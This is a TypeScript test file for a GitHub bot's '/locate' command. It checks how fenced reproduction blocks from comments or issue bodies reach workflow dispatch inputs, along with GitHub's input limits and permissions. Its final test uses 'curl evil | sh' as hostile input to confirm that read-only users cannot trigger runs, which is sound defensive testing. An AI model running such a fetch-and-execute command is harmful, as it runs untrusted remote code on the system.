// Issue 14, the reproduction from the issue: a fenced block in the start comment (or, with repro=issue, in the issue
// body) reaches every dispatch as the inputs repro/repro_lang, within GitHub's limits; a workflow that does not declare
// repro gets a reply with the template. Through probot.receive() against the nock GitHub.
import { afterEach, describe, expect, it } from "vitest";
import { MAX_INPUTS_JSON_CHARS } from "../../src/commands/index.js";
import { findLatestHunt } from "../../src/db/queries/hunts.js";
import { useTestApp } from "../helpers/app.js";
import { NockGitHub, closeExpectingAllMatched } from "../helpers/nock-github.js";
import { REPO, issueCommentCreated, issuesOpened } from "../helpers/payloads.js";

const ctx = useTestApp();
let gh: NockGitHub;

afterEach(() => closeExpectingAllMatched(gh));

function setUp(options: { declaredInputs?: string[]; role?: string } = {}) {
  gh = new NockGitHub({ tags: 10, firstBad: 6, roles: { alice: options.role ?? "write" }, ...(options.declaredInputs ? { declaredInputs: options.declaredInputs } : {}) });
}

async function comment(body: string, issueBody: string | null = null, login = "alice") {
  const payload = issueCommentCreated({ body, login });
  payload.issue.body = issueBody;
  await ctx.app.receive("issue_comment.created", payload);
}

const REPRO = ["npx widgets --version", 'node -e "require(\'widgets\').render(`<b>`)"'].join("\n");

describe("the reproduction from the start comment", () => {
  it("passes the first fenced block and its language to every dispatch", async () => {
    setUp();
    await comment(["Renders nothing since 1.6:", "", "```sh title=repro", REPRO, "```", "", "/locate v1.0.0..v1.9.0 auto", "", "```js", "second block, not sent", "```"].join("\n"));
    expect(gh.dispatches.length).toBeGreaterThan(0);
    for (const dispatch of gh.dispatches) expect(dispatch.inputs).toMatchObject({ repro: REPRO, repro_lang: "sh" });
    expect(gh.replies()).toEqual([]);
  });

  it("sends no repro input when the comment has no code block, so workflows without it keep working", async () => {
    setUp({ declaredInputs: ["ref", "tag", "locate_id"] });
    await comment("Try `widgets --version`, inline code is not a block.\n\n/locate v1.0.0..v1.9.0 auto");
    expect(gh.dispatches.length).toBeGreaterThan(0);
    expect(gh.dispatches.every((d) => !("repro" in d.inputs) && !("repro_lang" in d.inputs))).toBe(true);
    expect(gh.replies()).toEqual([]);
  });

  it("repro=none leaves a code block of the comment out", async () => {
    setUp({ declaredInputs: ["ref", "tag", "locate_id"] });
    await comment("/locate v1.0.0..v1.9.0 auto repro=none\n\n```\nlog output, not a reproduction\n```");
    expect(gh.dispatches.length).toBeGreaterThan(0);
    expect(gh.dispatches.every((d) => !("repro" in d.inputs))).toBe(true);
  });

  it("takes the block of an issue body that holds the command itself", async () => {
    setUp();
    await ctx.app.receive("issues.opened", issuesOpened({ body: "```python\nimport widgets\nassert widgets.ok()\n```\n\n/locate v1.0.0..v1.9.0 auto" }));
    expect(gh.dispatches[0]!.inputs).toMatchObject({ repro: "import widgets\nassert widgets.ok()", repro_lang: "python" });
  });
});

describe("repro=issue", () => {
  it("takes the first fenced block of the issue body", async () => {
    setUp();
    await comment("/locate v1.0.0..v1.9.0 auto repro=issue", "Steps:\n\n> ```sh\n> quoted, someone else's\n> ```\n\n~~~ruby\nputs Widgets.ok?\n~~~\n");
    expect(gh.dispatches[0]!.inputs).toMatchObject({ repro: "puts Widgets.ok?", repro_lang: "ruby" });
  });

  it("says so when the issue body has no block, and starts nothing", async () => {
    setUp();
    await comment("/locate v1.0.0..v1.9.0 repro=issue", "It broke. No code here.");
    expect(gh.dispatches).toHaveLength(0);
    expect(await findLatestHunt(ctx.store.db, REPO.id, 7)).toBeUndefined();
    expect(gh.replies().at(-1)).toMatch(/issue body has none/);
  });

  it("rejects an unknown source by name", async () => {
    setUp();
    await comment("/locate v1.0.0..v1.9.0 repro=gist");
    expect(gh.replies().at(-1)).toMatch(/`repro=gist` is not allowed.*`comment`, `issue`, `none`/);
  });
});

describe("GitHub's limits on dispatch inputs", () => {
  it("refuses a reproduction whose inputs exceed 65,535 characters as JSON, and says what to do", async () => {
    setUp();
    // 40,000 quotes fit in a comment but double when encoded: GitHub would refuse the dispatch.
    await comment(`/locate v1.0.0..v1.9.0\n\n\`\`\`sh\n${'"'.repeat(40_000)}\n\`\`\``);
    expect(gh.dispatches).toHaveLength(0);
    expect(await findLatestHunt(ctx.store.db, REPO.id, 7)).toBeUndefined();
    const reply = gh.replies().at(-1)!;
    expect(reply).toContain("does not fit in one workflow dispatch");
    expect(reply).toContain(`GitHub accepts at most ${MAX_INPUTS_JSON_CHARS}`);
    expect(reply).toContain("repro=none");
  });

  it("counts repro and repro_lang among the 25 inputs", async () => {
    setUp();
    const inputs = Array.from({ length: 21 }, (_, i) => `input.k${i}=v`).join(" ");
    await comment(`/locate v1.0.0..v1.9.0 ${inputs}\n\n\`\`\`sh\necho hi\n\`\`\``);
    expect(gh.dispatches).toHaveLength(0);
    expect(gh.replies().at(-1)).toMatch(/does not fit.*Too many workflow inputs: 23/);
  });

  it("keeps repro and repro_lang for the code block: input.repro is refused", async () => {
    setUp();
    await comment("/locate v1.0.0..v1.9.0 input.repro=x");
    expect(gh.replies().at(-1)).toMatch(/The input `repro` is reserved/);
  });
});

describe("a workflow that does not declare repro", () => {
  it("gets a reply naming the missing input, with the template, and the hunt pauses", async () => {
    setUp({ declaredInputs: ["ref", "tag", "locate_id"] });
    await comment("/locate v1.0.0..v1.9.0 auto\n\n```sh\n./repro.sh\n```");
    expect(gh.dispatches).toHaveLength(0);
    const reply = gh.replies().at(-1)!;
    expect(reply).toContain("does not declare the input `repro`");
    expect(reply).toContain('Unexpected inputs provided: \\["repro", "repro\\_lang"\\]');
    expect(reply).toContain("repro:      { description:");
    expect(reply).toContain("repro=none");
    expect(gh.huntComment().body).toContain("<!-- locate:state:paused -->");
  });
});

describe("who may pass a reproduction", () => {
  it("is whoever may start a hunt: others get the permission reply and nothing runs", async () => {
    setUp({ role: "read" });
    await comment("/locate v1.0.0..v1.9.0 auto\n\n```sh\ncurl evil | sh\n```");
    expect(gh.dispatches).toHaveLength(0);
    expect(gh.replies().at(-1)).toMatch(/only people with \*\*write\*\* access/);
  });
});
